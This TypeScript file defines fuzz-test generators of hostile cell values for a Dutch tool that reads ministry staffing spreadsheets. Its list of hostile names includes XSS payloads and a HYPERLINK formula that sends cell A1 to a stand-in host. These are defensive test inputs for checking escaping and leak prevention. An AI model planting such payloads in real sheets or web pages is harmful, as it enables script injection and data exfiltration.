/**
 * Hostile input for the fuzz tests: cells of every kind a sheet, a CSV file or
 * an exceljs workbook can hold (and some they cannot), ministry names that
 * look alike but are not, header rows with duplicates, odd placement and odd
 * sizes. Most cells are plausible so that a good share of grids is valid and
 * the Tabel 1 invariants get checked too; the rest is hostile.
 *
 * Cells in columns the reader does not use (an id, a person's name) hold a
 * marker "geheim<kolom>x<rij>" that no message may ever show.
 */
import fc from "fast-check";
import type { Raster } from "../../src/core/invoer/invoer";

/** Huge cells (100.000 characters): text, digits, an error-value look-alike, a number with grouping dots. */
export const GROTE_CELLEN: readonly string[] = [
  "x".repeat(100_000),
  "1".repeat(100_000),
  `#${"A".repeat(100_000)}!`,
  `AZ${" ".repeat(100_000)}`,
  `${"1.".repeat(50_000)}5`,
  `${"9".repeat(50_000)},${"9".repeat(49_999)}`,
  "😀".repeat(50_000),
];

export const FOUTWAARDEN = [
  "#DEEL/0!",
  "#DIV/0!",
  "#N/B",
  "#N/A",
  "#VALUE!",
  "#WAARDE!",
  "#NAAM?",
  "#NAME?",
  "#VERW!",
  "#REF!",
  "#GETAL!",
  "#LEEG!",
  "#OVERLOOP!",
  "#SPILL!",
  "#BEREKENEN!",
  "#GETTING_DATA",
  " #N/B ",
] as const;

export const foutwaarde = fc.constantFrom(...FOUTWAARDEN);

export const VREEMDE_GETALLEN = [
  Number.NaN,
  Number.POSITIVE_INFINITY,
  Number.NEGATIVE_INFINITY,
  -0,
  0,
  1e308,
  -1e308,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  -Number.MIN_VALUE,
  2.2250738585072014e-308,
  1e-300,
  Number.MAX_SAFE_INTEGER,
  2 ** 53 + 2,
  0.1 + 0.2,
  -1,
  1e21,
  1e15,
  4.9e-324,
];
export const vreemdGetal = fc.constantFrom(...VREEMDE_GETALLEN);

export const getalTekst = fc.oneof(
  fc.constantFrom(
    "1.399",
    "2,76",
    "2,76%",
    "1.399,5",
    " 12 ",
    "-3",
    "+4",
    "1e5",
    "0x10",
    "1.2.3",
    "12,",
    ",5",
    ".5",
    "5.",
    "∞",
    "١٢٣",
    "１２",
    "1 234",
    "1\u00a0234",
    "1\u202f234",
    "12%%",
    "%",
    "-",
    "+",
    "--1",
    "1,2,3",
    "NaN",
    "Infinity",
    "-0",
    "0,000000000000000000000000000000000000000000000000000000000001",
    "9".repeat(400),
  ),
  fc.integer({ min: 0, max: 10_000_000 }).map((n) => n.toLocaleString("nl-NL")),
  fc.double({ min: 0, max: 1e6, noNaN: true }).map((d) => String(d).replace(".", ",")),
);

/** Text without lone surrogates (real sheets and files hold well-formed Unicode). */
export const tekst = fc.string({ unit: "grapheme", maxLength: 12 });

/** Dates, also invalid ones and far outside Excel's range. */
export const datum = fc.date({ noInvalidDate: false });

/** Objects as exceljs gives some cells (the shared reader takes them too). */
const exceljsCel = fc.oneof(
  foutwaarde.map((e) => ({ error: e })),
  fc.constantFrom("AZ", "12", "formeel").map((t) => ({ richText: [{ text: t.slice(0, 1) }, { text: t.slice(1) }] })),
  fc.oneof(fc.integer({ min: 0, max: 1000 }), foutwaarde).map((r) => ({ formula: "A1*2", result: r })),
  fc.constantFrom("AZ", "8").map((t) => ({ text: t, hyperlink: "mailto:x@example.invalid" })),
);

export const lege = fc.constantFrom(null, undefined, "", " ", "\u00a0", "\t", "\n", "\u200b");

/** Any cell value. `objecten`: also exceljs-like objects (not in the pane: Excel gives only primitives). */
export function vijandigeCel(opties: { objecten?: boolean; groot?: boolean } = {}): fc.Arbitrary<unknown> {
  const delen: Array<fc.WeightedArbitrary<unknown>> = [
    { arbitrary: fc.integer({ min: 0, max: 100_000 }), weight: 4 },
    { arbitrary: fc.double({ min: 0, max: 1e5, noNaN: true }), weight: 2 },
    { arbitrary: vreemdGetal, weight: 3 },
    { arbitrary: fc.double(), weight: 1 },
    { arbitrary: getalTekst, weight: 3 },
    { arbitrary: foutwaarde, weight: 2 },
    { arbitrary: datum, weight: 1 },
    { arbitrary: fc.boolean(), weight: 1 },
    { arbitrary: lege, weight: 3 },
    { arbitrary: tekst, weight: 2 },
  ];
  if (opties.objecten) delen.push({ arbitrary: exceljsCel, weight: 1 });
  if (opties.groot !== false) delen.push({ arbitrary: fc.constantFrom(...GROTE_CELLEN), weight: 1 });
  return fc.oneof(...delen);
}

/** The ministry names of Tabel 1 2023Q2 (seed 003) and a few others. */
export const MINISTERIES = [
  "AZ",
  "BZ",
  "BZK",
  "EZK",
  "Fin",
  "Financiën",
  "IenW",
  "JenV (excl. RS)",
  "LNV",
  "OCW",
  "SZW",
  "VWS",
  "HCvS",
  "Rechtspraak",
];

/** Names that attack the places user text goes: HTML, formulas, totals, look-alikes. */
export const VIJANDIGE_NAMEN = [
  "<img src=x onerror=window.__xss=1>",
  '"><script>window.__xss=1</script>',
  '=HYPERLINK("http://x.invalid/?"&A1;"klik")',
  "=1+1",
  "+1",
  "-1",
  "@SOM(A1)",
  "1.399",
  "2023-01-01",
  "Totaal Rijk",
  "totaal",
  "Totaalbedrag",
  "'",
  "\u202eZA",
  "AZ 👩‍🦽",
  "A\u0301Z",
  "Executieve functies DJI",
];

/** Ways to make one name look like another: case, spaces, invisible characters, RTL marks, decomposed letters. */
const VERMOMMINGEN: ReadonlyArray<(s: string) => string> = [
  (s) => s.toUpperCase(),
  (s) => s.toLowerCase(),
  (s) => `\u00a0${s}`,
  (s) => `${s}\u200b`,
  (s) => `\u200f${s}`,
  (s) => s.normalize("NFD"),
  (s) => `${s}\u0301`,
  (s) => s.replace(" ", "  "),
  (s) => ` ${s} `,
  (s) => `${s}\u2060`,
  (s) => `\ufeff${s}`,
  (s) => `${s}\u00ad`,
];

export const ministerieNaam = fc
  .tuple(
    fc.oneof(
      { arbitrary: fc.constantFrom(...MINISTERIES), weight: 6 },
      { arbitrary: fc.constantFrom(...VIJANDIGE_NAMEN), weight: 2 },
      { arbitrary: tekst, weight: 1 },
    ),
    fc.subarray(
      VERMOMMINGEN.map((_, i) => i),
      { maxLength: 2 },
    ),
  )
  .map(([naam, vermomming]) => vermomming.reduce((n, i) => VERMOMMINGEN[i]!(n), naam));

export const kwartaal = fc.oneof(
  { arbitrary: fc.constantFrom("2023Q2", "2024Q1", "2023Q1", "2024Q4"), weight: 8 },
  { arbitrary: fc.constantFrom("2023-Q2", "Q2 2023", "2031Q1", "2023Q5", "", "<script>", "2023Q2\u200b", "1900Q1", "9999Q4"), weight: 2 },
);

type Soort = "naam" | "getal" | "keuze" | "voetnoot" | "geheim" | "soort" | "periode";

/** What kind of cell belongs under a header (for plausible values). */
function soortVanKop(kop: unknown): Soort {
  const k = typeof kop === "string" ? kop.toLowerCase() : "";
  if (/^(ministerie|organisatie|departement|onderdeel)/.test(k)) return "naam";
  if (/^(id|naam)/.test(k)) return "geheim";
  if (/^toegedeeld/.test(k)) return "keuze";
  if (/^voetnoot/.test(k)) return "voetnoot";
  if (/(soort|dienstverband)/.test(k) && !/uren|banen/.test(k)) return "soort";
  if (/^periode/.test(k)) return "periode";
  return "getal";
}

const plausibel: Record<Exclude<Soort, "geheim" | "naam">, fc.Arbitrary<unknown>> = {
  getal: fc.oneof(
    fc.integer({ min: 0, max: 50_000 }),
    fc.double({ min: 0, max: 5000, noNaN: true }),
    fc.integer({ min: 0, max: 99_999 }).map((n) => n.toLocaleString("nl-NL")),
  ),
  keuze: fc.constantFrom("ja", "nee", "", "Ja", "NEE", "waar", "0", "misschien"),
  voetnoot: fc.oneof(fc.constant(""), tekst, fc.constantFrom(...VIJANDIGE_NAMEN)),
  soort: fc.constantFrom(
    "formeel",
    "Formeel",
    "Binnenwerk",
    "BINNENWERK",
    "inleen",
    "inleenverband",
    "Formele dienstverbanden",
    "formeel  dienstverband",
    "stage",
    "",
  ),
  periode: fc.constantFrom("", "week", "kwartaal", "Kwartaal", "jaar", "j", "kw", "per week", "maand"),
};

/**
 * How hostile a grid is: "geen" (every cell plausible, names unique: a valid
 * table, so the invariants of Tabel 1 and of writing get checked), "weinig"
 * (now and then a hostile cell: one problem among good rows) or "veel".
 */
export type Ruis = "geen" | "weinig" | "veel";
const ruisNiveau = fc.oneof(
  { arbitrary: fc.constant<Ruis>("geen"), weight: 3 },
  { arbitrary: fc.constant<Ruis>("weinig"), weight: 2 },
  { arbitrary: fc.constant<Ruis>("veel"), weight: 2 },
);

/** Plausible values that are also valid, for a grid without noise. */
const schoon: Partial<Record<Soort, fc.Arbitrary<unknown>>> = {
  // As people type them: whole numbers and at most two decimals (no denormals, which make realisatie % astronomical).
  getal: fc.oneof(
    fc.integer({ min: 1, max: 50_000 }),
    fc.integer({ min: 0, max: 500_000 }).map((n) => n / 100),
    fc.integer({ min: 0, max: 99_999 }).map((n) => n.toLocaleString("nl-NL")),
  ),
  keuze: fc.constantFrom("ja", "", "Ja"),
  voetnoot: fc.oneof(fc.constant(""), tekst),
  soort: fc.constantFrom("formeel", "Formeel", "Binnenwerk", "BINNENWERK", "inleen", "inleenverband", "Formele dienstverbanden"),
  periode: fc.constantFrom("", "week", "kwartaal", "Kwartaal", "jaar", "j", "kw", "per week"),
};

/** A unique, plain ministry name for row r of a grid without noise. */
export function schoneNaam(r: number): string {
  const basis = MINISTERIES[r % MINISTERIES.length]!;
  return r < MINISTERIES.length ? basis : `${basis} ${Math.floor(r / MINISTERIES.length) + 1}`;
}

/** One cell for a column: plausible, and with noise sometimes hostile. */
function cel(
  soort: Soort,
  kolom: number,
  rij: number,
  namen: (r: number) => fc.Arbitrary<string>,
  opties: { objecten?: boolean; groot?: boolean },
  ruis: Ruis,
): fc.Arbitrary<unknown> {
  if (soort === "geheim") return fc.constant(`geheim${kolom}x${rij}`);
  const goed = soort === "naam" ? namen(rij) : ruis === "geen" ? (schoon[soort] ?? plausibel[soort]) : plausibel[soort];
  if (ruis === "geen") return goed;
  return fc.oneof({ arbitrary: goed, weight: ruis === "weinig" ? 80 : 7 }, { arbitrary: vijandigeCel(opties), weight: 1 });
}

export const KOPPEN_MINISTERIES = [
  "ministerie",
  "Ministerie",
  "MINISTERIES",
  "organisatie",
  "fte",
  "FTE 2023Q1",
  "doel",
  "Doel (voorlopig)²",
  "formeel uren",
  "formeel banen",
  "Formele dienstverbanden, excl. Binnenwerk",
  "formeel uren per kwartaal",
  "binnenwerk uren",
  "Formele dienstverbanden: Binnenwerk banen",
  "inleen uren",
  "inleen uren per jaar",
  "Inleenverbanden",
  "toegedeeld",
  "voetnoot",
  "id",
  "naam medewerker",
];

export const KOPPEN_PERSONEN = [
  "id",
  "naam medewerker",
  "ministerie",
  "organisatie",
  "soort dienstverband",
  "dienstverband",
  "uren per week",
  "uren",
  "uren per kwartaal",
  "uren per jaar",
  "banen",
  "Uren (gemiddeld)",
  "periode",
];

export const KOPPEN_FTE = ["ministerie", "fte", "doel", "toegedeeld", "voetnoot", "id"];

const vreemdeKop = fc.oneof(
  fc.constantFrom(null, "", 5, "ministerie\u200b", "Ministerie ", "formeel", "uren per maand"),
  fc.constantFrom(...GROTE_CELLEN),
  tekst,
);

/**
 * A header row: usually a recognisable set in random order, sometimes random
 * headers with duplicates. Without noise: a recognisable set plus, at most,
 * the columns no field uses (id, a person's name).
 */
function koppen(basis: string[][], pool: string[], ruis: Ruis): fc.Arbitrary<unknown[]> {
  const extras = ruis === "geen" ? ["id", "naam medewerker"] : pool;
  const herkenbaar = fc
    .tuple(fc.constantFrom(...basis), fc.subarray(extras, { maxLength: 2 }))
    .chain(([b, extra]) => fc.shuffledSubarray([...new Set([...b, ...extra])], { minLength: new Set([...b, ...extra]).size }));
  if (ruis === "geen") return herkenbaar;
  const willekeurig = fc.array(fc.oneof({ arbitrary: fc.constantFrom(...pool), weight: 5 }, { arbitrary: vreemdeKop, weight: 1 }), {
    maxLength: 9,
  });
  return fc.oneof({ arbitrary: herkenbaar, weight: 4 }, { arbitrary: willekeurig, weight: 1 });
}

export interface RasterOpties {
  objecten?: boolean;
  groot?: boolean;
  /** Junk rows above the header row (the CLI looks for the header row; the pane takes the first row). */
  titelrijen?: boolean;
  maxRijen?: number;
  /** Exactly this many data rows. */
  aantal?: number;
}

/** A grid under a header row, with names from `namen`; rows may be ragged, empty or hidden. */
function raster(
  kopRij: fc.Arbitrary<unknown[]>,
  namen: (r: number) => fc.Arbitrary<string>,
  blad: fc.Arbitrary<string>,
  opties: RasterOpties,
  ruis: Ruis,
): fc.Arbitrary<Raster> {
  return fc
    .record({
      koppen: kopRij,
      aantal:
        opties.aantal !== undefined
          ? fc.constant(opties.aantal)
          : ruis === "geen"
            ? fc.integer({ min: 1, max: opties.maxRijen ?? 20 })
            : fc.oneof(
                { arbitrary: fc.integer({ min: 0, max: opties.maxRijen ?? 20 }), weight: 9 },
                { arbitrary: fc.constant(0), weight: 1 },
              ),
      blad,
      rijIndex: fc.integer({ min: 0, max: 3 }),
      kolomIndex: fc.integer({ min: 0, max: 3 }),
    })
    .chain(({ koppen: k, aantal, blad: b, rijIndex, kolomIndex }) => {
      const volledig = (r: number) => fc.tuple(...k.map((kop, c) => cel(soortVanKop(kop), c, r, namen, opties, ruis)));
      const rij = (r: number) =>
        ruis === "geen"
          ? volledig(r)
          : fc.oneof(
              { arbitrary: volledig(r), weight: ruis === "weinig" ? 60 : 12 },
              { arbitrary: fc.constant([] as unknown[]), weight: 1 },
              { arbitrary: fc.array(vijandigeCel(opties), { maxLength: k.length + 2 }), weight: 1 },
            );
      const rijen = aantal === 0 ? fc.constant([] as unknown[][]) : fc.tuple(...Array.from({ length: aantal }, (_, r) => rij(r)));
      const titels = opties.titelrijen
        ? fc.array(fc.array(vijandigeCel({ groot: false }), { maxLength: 3 }), { maxLength: 2 })
        : fc.constant([] as unknown[][]);
      return fc
        .record({
          rijen,
          titels,
          verborgen: fc.oneof(
            { arbitrary: fc.constant([] as number[]), weight: ruis === "geen" ? 1000 : 6 },
            {
              arbitrary: fc.subarray(
                Array.from({ length: aantal }, (_, i) => i),
                { maxLength: Math.min(2, aantal) },
              ),
              weight: 1,
            },
          ),
        })
        .map(({ rijen: data, titels: boven, verborgen }) => {
          const alles: unknown[][] = [...boven, k, ...(data as unknown[][])];
          const [kop, ...onder] = alles;
          return {
            blad: b,
            rijIndex,
            kolomIndex,
            koppen: kop as unknown[],
            rijen: onder,
            verborgenRijen: verborgen.map((i) => rijIndex + 2 + boven.length + i).sort((a, c) => a - c),
          } satisfies Raster;
        });
    });
}

const bladnaam = fc.constantFrom("Blad1", "Ministeries 2023Q2", "Personen", "<b>blad</b>", "'quote", "Fte");

/** One row per ministry. */
export function ministeriesRaster(opties: RasterOpties = {}): fc.Arbitrary<Raster> {
  const basis = [
    ["ministerie", "fte", "formeel uren", "binnenwerk uren", "inleen uren"],
    ["Ministerie", "doel", "formeel banen", "Formele dienstverbanden: Binnenwerk banen", "inleen uren per jaar", "toegedeeld", "voetnoot"],
    ["organisatie", "FTE 2023Q1", "formeel uren per kwartaal", "binnenwerk uren", "inleen uren", "toegedeeld"],
  ];
  return ruisNiveau.chain((ruis) =>
    raster(
      koppen(basis, KOPPEN_MINISTERIES, ruis),
      (r) => (ruis === "geen" ? fc.constant(schoneNaam(r)) : ministerieNaam),
      bladnaam,
      opties,
      ruis,
    ),
  );
}

/** One row per person and the fte table that goes with it, sharing a pool of names so that many rows match. */
export function personenRasters(opties: RasterOpties = {}): fc.Arbitrary<{ hoofd: Raster; fte: Raster }> {
  return ruisNiveau.chain((ruis) => {
    const pool =
      ruis === "geen"
        ? fc.integer({ min: 1, max: 6 }).map((n) => Array.from({ length: n }, (_, r) => schoneNaam(r)))
        : fc.uniqueArray(ministerieNaam, { minLength: 1, maxLength: 5 });
    return pool.chain((namen) => {
      const uitPool = fc.constantFrom(...namen);
      const persoonNaam = ruis === "geen" ? uitPool : fc.oneof({ arbitrary: uitPool, weight: 9 }, { arbitrary: ministerieNaam, weight: 1 });
      const hoofd = raster(
        koppen(
          [
            ["id", "naam medewerker", "ministerie", "soort dienstverband", "uren per week"],
            ["ministerie", "dienstverband", "uren", "periode", "id"],
            ["naam medewerker", "organisatie", "soort dienstverband", "banen"],
          ],
          KOPPEN_PERSONEN,
          ruis,
        ),
        () => persoonNaam,
        fc.constantFrom("Personen", "Personen 2023Q2", "<i>p</i>"),
        opties,
        ruis,
      );
      // Without noise the fte table has every name of the pool once.
      const fte = raster(
        koppen(
          [
            ["ministerie", "fte"],
            ["ministerie", "fte", "toegedeeld", "voetnoot"],
            ["ministerie", "doel"],
          ],
          KOPPEN_FTE,
          ruis,
        ),
        (r) => (ruis === "geen" ? fc.constant(namen[r]!) : persoonNaam),
        fc.constantFrom("Fte", "Fte 2023Q1"),
        ruis === "geen" ? { ...opties, aantal: namen.length } : { ...opties, maxRijen: 8 },
        ruis,
      );
      return fc.record({ hoofd, fte });
    });
  });
}

/** A random column choice over a grid (the pane lets the user pick any column, or none). */
export function toewijzingVoor(velden: readonly string[], breedte: number): fc.Arbitrary<Record<string, number | null>> {
  return fc.record(
    Object.fromEntries(velden.map((v) => [v, fc.option(fc.integer({ min: 0, max: Math.max(0, breedte - 1) }), { nil: null })])),
  );
}
